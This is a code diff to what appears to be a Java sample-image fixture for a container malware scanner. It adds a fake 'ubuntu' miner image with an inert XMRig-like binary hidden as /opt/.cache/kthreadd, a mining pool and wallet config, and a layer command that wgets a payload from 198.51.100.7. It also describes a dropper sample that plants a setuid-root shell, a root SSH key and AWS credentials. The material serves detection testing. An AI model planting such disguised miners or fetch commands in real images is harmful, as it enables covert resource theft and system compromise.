@@ -75,17 +75,48 @@ public final class SampleImages {
                 .build();
     }
 
+    /**
+     * An "ubuntu" that mines: an inert ELF carrying XMRig's strings under a kernel-thread name in a hidden folder, its
+     * config with a pool and a fresh (checksum-valid) Monero wallet, and a CMD that starts it.
+     */
+    public static ImageBuilder.Built miner() {
+        byte[] keys = new byte[64];
+        new java.security.SecureRandom().nextBytes(keys);
+        String wallet = dev.contraband.detect.miner.Wallets.moneroAddress(18, keys);
+        java.io.ByteArrayOutputStream elf = new java.io.ByteArrayOutputStream();
+        elf.writeBytes(SampleElf.program());
+        for (String s : List.of("XMRig 6.21.0", "donate-level", "cpu-max-threads-hint", "rx/wow", "argon2/chukwa",
+                "keepalived", "nicehash", "huge-pages", "randomx")) {
+            elf.write(0);
+            elf.writeBytes(s.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
+        }
+        return ImageBuilder.create()
+                .layer(base(), Compression.GZIP, "/bin/sh -c #(nop) ADD file:base in / ")
+                .layer(LayerBuilder.create()
+                                .dir("/opt/.cache")
+                                .file("/opt/.cache/kthreadd", elf.toByteArray(), 0755)
+                                .file("/opt/.cache/config.json", "{\"donate-level\": 0, \"cpu\": {\"enabled\": true},\n"
+                                        + " \"pools\": [{\"url\": \"pool.supportxmr.com:3333\", \"user\": \"" + wallet + "\"}]}\n"),
+                        Compression.GZIP, "/bin/sh -c wget -q http://198.51.100.7/x -O /opt/.cache/kthreadd")
+                .cmd("/opt/.cache/kthreadd", "--config", "/opt/.cache/config.json")
+                .build();
+    }
+
     /** Writes the samples under {@code dir} and returns them in the order the demo scans them. */
     public static List<Sample> write(Path dir) throws IOException {
         Path cleanArchive = dir.resolve("clean-app.tar");
         ImageWriter.dockerArchive(cleanArchive, "demo/clean-app:1.0", clean(), true);
         Path dropperLayout = dir.resolve("dropper-oci");
         ImageWriter.ociLayout(dropperLayout, "latest", dropper());
+        Path minerLayout = dir.resolve("miner-oci");
+        ImageWriter.ociLayout(minerLayout, "latest", miner());
         return List.of(
                 new Sample("demo/clean-app:1.0", "docker-archive:" + cleanArchive,
                         "a clean application image, as `docker save` writes it"),
                 new Sample("demo/dropper:latest", "oci:" + dropperLayout + ":latest",
                         "an image that plants a program in /tmp, preloads a library, adds a setuid-root shell, "
-                                + "an SSH key for root and AWS credentials, and deletes one of its droppings in a later layer"));
+                                + "an SSH key for root and AWS credentials, and deletes one of its droppings in a later layer"),
+                new Sample("demo/ubuntu-miner:latest", "oci:" + minerLayout + ":latest",
+                        "an image that ships a renamed XMRig build in a hidden folder with its pool and wallet config"));
     }
 }
